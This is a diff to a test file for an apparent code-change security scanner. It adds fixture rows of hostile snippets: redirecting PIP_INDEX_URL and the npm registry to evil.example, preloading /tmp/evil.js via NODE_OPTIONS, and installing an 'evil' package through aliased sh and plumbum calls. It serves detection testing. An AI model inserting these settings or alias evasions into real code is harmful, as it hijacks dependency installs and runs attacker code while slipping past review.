@@ -211,6 +211,28 @@ const BACKTICK_CALLS: FindingRow[] = [
   ['src/x.py', "import sh\nsh.make('-C', '/tmp/x')"],
 ];
 
+// Review of B's fix (session 46), H1: the sh/plumbum spelling rewrote any object called `sh` (`sh.environ[` became
+// `run('environ', `), and the outside-repository and setting rules read only the rewritten lines. Closed: each rule
+// reads the lines as added and as spelled, and the rewrites apply only to Python files importing sh or plumbum.
+const SPELLING_HIDES_SETTINGS: FindingRow[] = [
+  ['src/x.py', "import os as sh\nsh.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
+  ['src/x.py', "sh = __import__('os')\nsh.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
+  ['src/x.js', "const sh = process;\nsh.env['NODE_OPTIONS'] = '--require /tmp/evil.js'"],
+  ['src/x.js', "const sh = process;\nsh.env['NPM_CONFIG_REGISTRY'] = 'https://evil.example/'"],
+  ['src/x.py', "import os as sh\nsh.putenv('PIP_INDEX_URL', 'https://evil.example/simple')"],
+  ['src/x.py', "import os as sh\nsh.environ.setdefault('NODE_OPTIONS', '--require /tmp/evil.js')"],
+  ['src/x.py', "import os as sh\nsh.chdir('/tmp/evil'); sh.system('make')"],
+  ['src/x.py', "from plumbum.cmd import environ\nenviron['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
+  // sh's import above the hunk, out of the patch's view: still read as sh's call.
+  ['src/x.py', "sh.npm('install', 'evil')"],
+];
+// Review of B's fix, M3 (the spelling's own bug): plumbum's alias read as the program's name (`n`, not npm), and an
+// import in parentheses not read. Closed: an alias is read as the program it names.
+const PLUMBUM_ALIASES: FindingRow[] = [
+  ['src/x.py', "from plumbum.cmd import npm as n\nn['install', 'evil']()"],
+  ['src/x.py', "from plumbum.cmd import (npm)\nnpm['install', 'evil']()"],
+];
+
 // Still open after B's fix (session 46): Perl's two-argument open with the pipe after the command, Scala's
 // `Process(…)` (a name too common to read as a call alone), sh's `Command('npm')` (the program as a string to a builder).
 const BACKTICK_CALLS_OPEN: FindingRow[] = [
@@ -583,6 +605,8 @@ describeFindings('attack-48', [
   ['E0 and A variants', closedRows(ESCAPE_VARIANTS)],
   ['B process calls not read', closedRows(BACKTICK_CALLS)],
   ['B process calls not read, open', BACKTICK_CALLS_OPEN],
+  ['B review H1 spelling hides settings', closedRows(SPELLING_HIDES_SETTINGS)],
+  ['B review M3 plumbum aliases', closedRows(PLUMBUM_ALIASES)],
   ['C deno remote modules', DENO_REMOTE],
   ['C deno remote modules, closed', closedRows(DENO_REMOTE_CLOSED)],
   ['D other runners', closedRows(OTHER_RUNNERS)],
@@ -679,6 +703,10 @@ describeAccepted('attack-48 B: ordinary process calls stay accepted', [
   ['src/x.py', "import sh\nsh.npm('test')"],
   ['src/x.py', "from plumbum import local\nlocal['npm']['test']()"],
   ['src/x.py', "from plumbum.cmd import git\ngit['status']()"],
+  // Review of B's fix, H1: `sh` as any other name, outside a Python file importing sh (nothing here is a setting).
+  ['src/x.js', "const sh = process;\nsh.env['CI'] = 'true';"],
+  ['src/x.py', "import os as sh\nsh.environ['TZ'] = 'UTC'"],
+  ['src/x.py', "from plumbum.cmd import git as g\ng['status']()"],
   ['src/x.py', "print('%x' % 255)"],
   ['src/x.js', "crossSpawn.sync('npm', ['test'], { stdio: 'inherit' })"],
   ['src/x.js', 'console.log(`run npm install ${name}`)'],
